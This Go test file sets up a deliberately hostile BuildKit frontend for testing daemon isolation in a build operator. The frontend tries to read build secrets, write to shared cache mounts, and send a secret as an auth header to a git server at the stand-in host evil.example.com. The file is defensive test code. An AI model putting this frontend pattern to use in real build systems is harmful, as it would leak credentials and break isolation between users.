// SPDX-License-Identifier: Apache-2.0

package daemon_test

import (
	"archive/tar"
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/moby/buildkit/client/llb"
	gateway "github.com/moby/buildkit/frontend/gateway/client"
	"github.com/moby/buildkit/frontend/gateway/grpcclient"

	"github.com/openllb/hlb-operator/test/kit/buildkittest"
)

// frontendVariable makes the test's program a front end, inside an image that daemons run.
const frontendVariable = "HLB_TEST_FRONTEND"

// hostileFrontend does what the option "attack" says, with the base image of the option "base".
func hostileFrontend(ctx context.Context, c gateway.Client) (*gateway.Result, error) {
	opts := c.BuildOpts().Opts
	kind, what, _ := strings.Cut(opts["attack"], " ")
	step := func(o ...llb.RunOption) llb.State {
		o = append(o, llb.Args([]string{"/bin/sh", "-ec", "cat /run/s >/dev/null 2>&1 || true; echo x > /c/f || true"}))
		return llb.Image(opts["base"]).Run(o...).Root()
	}
	var made llb.State
	evaluate := false
	switch kind {
	case "read-secret": // in a step that the front end runs itself
		made, evaluate = step(llb.AddSecret("/run/s", llb.SecretID(what))), true
	case "use-secret": // in a step that it makes
		made = step(llb.AddSecret("/run/s", llb.SecretID(what)))
	case "send-secret": // to a git server of its own
		made = llb.Git("https://evil.example.com/r", "", llb.AuthHeaderSecret(what), llb.AuthTokenSecret(""))
	case "mount":
		made = step(llb.AddMount("/c", llb.Scratch(), llb.AsPersistentCacheDir(what, llb.CacheMountLocked)))
	case "image":
		made, evaluate = llb.Image(what), true
	case "http":
		made, evaluate = llb.HTTP(what), true
	}
	def, err := made.Marshal(ctx)
	if err != nil {
		return nil, err
	}
	return c.Solve(ctx, gateway.SolveRequest{Definition: def.ToPB(), Evaluate: evaluate})
}

// pushFrontend pushes an image with this test's program as the front end, and returns its reference.
func pushFrontend(t *testing.T, registry *buildkittest.Registry) string {
	t.Helper()
	file, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	program, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	var packed bytes.Buffer
	w := tar.NewWriter(&packed)
	if err := w.WriteHeader(&tar.Header{Name: "frontend", Mode: 0o755, Size: int64(len(program))}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(program); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	layer, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) {
		return io.NopCloser(bytes.NewReader(packed.Bytes())), nil
	}, tarball.WithCompressionLevel(1))
	if err != nil {
		t.Fatal(err)
	}
	image, err := mutate.AppendLayers(empty.Image, layer)
	if err != nil {
		t.Fatal(err)
	}
	config, err := image.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	config.OS, config.Architecture = "linux", "amd64"
	config.Config = v1.Config{
		Entrypoint: []string{"/frontend"}, Env: []string{frontendVariable + "=yes"},
		Labels: map[string]string{"moby.buildkit.frontend.caps": "moby.buildkit.frontend.inputs"},
	}
	if image, err = mutate.ConfigFile(image, config); err != nil {
		t.Fatal(err)
	}
	return registry.Push(image, "front:1")
}

// serveFrontend serves hostileFrontend where the test's program is started as one.
func serveFrontend() bool {
	if os.Getenv(frontendVariable) == "" {
		return false
	}
	if err := grpcclient.RunFromEnvironment(context.Background(), hostileFrontend); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	return true
}
